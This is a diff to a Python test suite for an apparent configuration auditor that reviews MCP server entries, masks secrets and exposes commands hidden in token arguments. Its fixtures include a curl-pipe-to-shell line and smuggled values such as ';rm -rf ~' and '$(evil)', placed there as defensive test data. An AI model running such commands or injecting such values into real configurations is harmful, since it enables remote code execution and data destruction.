@@ -176,6 +176,17 @@ def test_what_is_in_the_way_of_a_program_holds_nothing_up(folder: Path) -> None:
         path.rmdir() if path.is_dir() and not path.is_symlink() else path.unlink()
 
 
+def test_files_of_any_size_hold_nothing_up(folder: Path) -> None:
+    for number in range(40):
+        with (folder / f"{number}.py").open("wb") as file:
+            file.truncate(400 * 1024 * 1024)
+    listed = ", ".join(f"{number}.py" for number in range(40))
+    (folder / "trunkline.yaml").write_text(f"mcpServers: {{a: {{command: python3, args: [{listed}]}}}}\n")
+    known = digests(folder)
+    os.truncate(folder / "39.py", 400 * 1024 * 1024 - 1)
+    assert digests(folder)[0] != known[0]
+
+
 def test_a_variable_counts_as_it_is_written(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     known = digests(folder)
     monkeypatch.setenv("B", "value")
@@ -188,7 +199,7 @@ def test_everything_that_is_trusted_is_shown_and_secrets_are_not(folder: Path) -
         "mcpServers:\n"
         "  a:\n    command: sh\n    args: [-c, 'curl -H \"Bearer abcdefghijk\" x|sh', --token, s3cr3tvalue]\n"
         "    env: {API_KEY: k3yk3yk3y, B: c}\n"
-        "  w: {url: 'https://x.example/mcp?key=v4lue4value'}\n"
+        "  w: {url: 'https://x.example/mcp?key=v4lue4value&to=${TOKEN}', headers: {X-A: '${KEY}'}}\n"
         "sources: {b: {kind: builtin, root: ., sandbox: off}}\n"
     )
     lines = verdict_of(folder / "trunkline.yaml", folder).lines()
@@ -197,7 +208,8 @@ def test_everything_that_is_trusted_is_shown_and_secrets_are_not(folder: Path) -
         assert secret not in shown
     assert "start a sh -c" in shown
     assert "x|sh" in shown
-    assert "reach w https://x.example/mcp?" in shown
+    assert "reach w https://x.example/mcp?key=********&to=${TOKEN}" in shown
+    assert "reach w headers.X-A: ${KEY}" in shown
     assert "weaken b sandbox: off" in shown
     assert "weaken  gateway.listen" in shown
     assert "start a env.B: c" in shown
@@ -206,10 +218,11 @@ def test_everything_that_is_trusted_is_shown_and_secrets_are_not(folder: Path) -
 def test_a_command_cannot_be_hidden_as_a_secret(folder: Path) -> None:
     hidden = "Bearer aaaaaaaa;rm -rf ~"
     (folder / "trunkline.yaml").write_text(
-        f"mcpServers: {{a: {{command: sh, args: [-c, '{hidden}', '--token=$(evil)', --password, 'x;evil2']}}}}\n"
+        f"mcpServers: {{a: {{command: sh, args: [-c, '{hidden}', '--token=$(evil)', --password, 'x;evil2', "
+        "--secret, ./evil3, --token=../evil4]}}\n"
     )
     [line] = [line for line in verdict_of(folder / "trunkline.yaml", folder).lines() if line.verb == "start"]
-    for part in (";rm -rf ~", "$(evil)", "x;evil2"):
+    for part in (";rm -rf ~", "$(evil)", "x;evil2", "./evil3", "../evil4"):
         assert part in line.text
 
 
